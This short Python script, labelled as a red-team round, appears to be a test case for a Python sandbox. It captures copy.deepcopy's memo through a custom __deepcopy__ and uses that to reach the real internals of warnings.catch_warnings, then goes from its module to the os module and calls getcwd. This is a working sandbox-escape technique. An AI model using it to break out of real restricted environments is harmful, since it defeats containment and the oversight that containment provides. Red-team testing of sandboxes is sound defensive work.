# family: red team, round 43 (copy.deepcopy memo reached by a __deepcopy__ the memo rule does not see; real __dict__ of catch_warnings)
import copy
import warnings

BOX = []


class Grabber:
    __deepcopy__ = lambda self, memo: BOX.append(memo) or self


class Watch(warnings.catch_warnings):
    def __init__(self):
        self.hook = Grabber()
        copy.deepcopy(self)
        super().__init__()


def real_dict(w):
    for memo in BOX:
        for key in memo:
            value = memo[key]
            if isinstance(value, list):
                for item in value:
                    if isinstance(item, dict) and "hook" in item and item["hook"] is w.hook:
                        return item
    return None


w = Watch()
mod = real_dict(w)["_module"]
print(mod)
print(mod.sys.modules["os"].getcwd())
